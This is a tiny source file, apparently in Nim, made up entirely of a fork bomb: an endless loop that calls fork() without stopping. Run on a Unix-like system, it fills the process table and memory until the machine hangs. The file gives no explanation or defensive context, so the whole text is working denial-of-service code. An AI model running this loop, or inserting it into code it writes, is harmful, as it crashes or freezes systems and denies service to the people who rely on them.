import posix
while true:
  discard fork()
